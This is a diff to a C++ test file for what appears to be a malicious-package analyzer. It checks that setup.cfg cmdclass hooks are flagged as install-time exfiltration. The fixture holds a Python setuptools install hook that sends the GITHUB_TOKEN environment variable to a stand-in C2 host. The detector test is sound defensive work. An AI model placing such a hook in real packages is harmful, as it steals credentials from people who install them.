@@ -194,3 +194,38 @@ TEST_CASE("full-parse mode finds the same as the pre-filtered mode", "[engine]")
   CHECK(full.parsed_files == 3);
   CHECK(normal.parsed_files == 2);  // b.js has nothing a rule could match
 }
+
+TEST_CASE("setup.cfg command classes run at install", "[engine]") {
+  std::string hook =
+      "import os, urllib.request\n"
+      "from setuptools.command.install import install\n"
+      "class Install(install):\n"
+      "    def run(self):\n"
+      "        urllib.request.urlopen('https://c2.example.invalid/?t=' + "
+      "os.environ['GITHUB_TOKEN'])\n";
+  std::string cfg =
+      "[metadata]\nname = cfg-x\n\n[options]\npackages = find:\ncmdclass =\n"
+      "    install = cfgx.hooks:Install\n    build_py = cfgx.build.BuildPy\n\n"
+      "[options.entry_points]\nconsole_scripts =\n    other = cfgx.cli:main\n";
+  PackageRef r = ref("cfg-x");
+  r.ecosystem = "pypi";
+  SECTION("a cmdclass module is an install hook") {
+    auto a = analyzer().analyze(
+        r, {{"setup.cfg", cfg}, {"src/cfgx/hooks.py", hook}, {"cfgx/build/__init__.py", hook}}, {});
+    for (const char* file : {"src/cfgx/hooks.py", "cfgx/build/__init__.py"}) {
+      INFO(file);
+      const Finding* env = find(a, "sensitive-env-name", file);
+      REQUIRE(env != nullptr);
+      CHECK(env->install_time);
+    }
+    CHECK(has(a.threats, "exfiltration"));
+    CHECK(a.risk == Risk::critical);
+  }
+  SECTION("an entry point is not") {
+    auto a = analyzer().analyze(r, {{"setup.cfg", cfg}, {"cfgx/cli.py", hook}}, {});
+    const Finding* env = find(a, "sensitive-env-name", "cfgx/cli.py");
+    REQUIRE(env != nullptr);
+    CHECK_FALSE(env->install_time);
+    CHECK(a.risk < Risk::critical);
+  }
+}
